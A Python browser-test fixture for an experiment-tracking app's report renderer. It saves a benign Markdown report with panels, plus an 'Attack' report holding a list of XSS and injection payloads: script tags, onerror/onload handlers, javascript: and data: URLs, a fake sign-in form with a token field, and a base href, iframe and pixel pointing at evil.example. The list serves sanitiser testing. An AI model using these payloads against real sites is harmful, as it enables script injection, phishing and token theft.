"""Reports as their table would have them: one with every kind of panel and every kind of Markdown, one that attacks its reader."""

from __future__ import annotations

from tests.browser.story import JOB, Story
from trainhouse.events.model.project_document import DocumentSaved
from trainhouse.events.wire import topics

REPORT = "Learning rates – week 48"
ATTACK = "Attack"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

CONTENT = f"""# What was tried

Four learning rates on **one** corpus, with `warmup=100`; see the [run](/jobs/{JOB}) and the [paper](https://arxiv.org/abs/1706.03762).

- [x] sweep of fifty runs
- [ ] longer runs

> The middle one wins.

## Loss

```panel
type: curves
title: Loss of three runs
metric: loss
jobs: [sweep-01, sweep-02, sweep-03]
smooth: 0.3
```

## Runs

```panel
type: runs
filter: {{project: research, name_contains: sweep}}
limit: 5
columns: [run, state, user, step, loss]
metrics: [loss]
```

| lr | loss |
|---|--:|
| 1e-3 | 0.8 |
| 3e-3 | 0.6 |

```python
session.log(loss=loss)
```

## The fleet

```panel
type: sql
title: Jobs by state
chart: bars
query: |
  SELECT state, count() AS jobs FROM job_status GROUP BY state ORDER BY jobs DESC
```

```panel
type: nothing
```
"""

ATTACKS = """<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2">

[click](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>) [protocol](//evil.example/x)

<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="token"><button>Sign in</button></form>

<svg onload="window.hacked=5"><script>window.hacked=6</script></svg><style>body { display: none }</style>

<div style="position:fixed">over</div>

<a href="/x" id="main" name="main" onclick="window.hacked=7">named</a> <base href="https://evil.example/">

<math><mtext><script>window.hacked=8</script></mtext></math>

![a pixel](https://evil.example/pixel.png) ![code](/login?code=x)

```panel
type: "<img src=x onerror='window.hacked = 9'>"
```

The end of it.
"""


def tell_reports(story: Story) -> None:
    """Three versions of one report, and the attack."""
    for version, content in ((1, "# First"), (2, "# Second"), (3, f"{CONTENT}\n![pixel](data:image/png;base64,{PIXEL})\n")):
        _save(story, REPORT, version, content)
    _save(story, ATTACK, 1, ATTACKS)


def _save(story: Story, name: str, version: int, content: str) -> None:
    fields = {
        "project": "default",
        "kind": "report",
        "name": name,
        "version": version,
        "content": content,
        "user": "ada",
        "at_ms": story.ms(version),
    }
    story.put(topics.TRACKING, DocumentSaved.model_validate(fields | {"note": f"draft {version}"}), version)
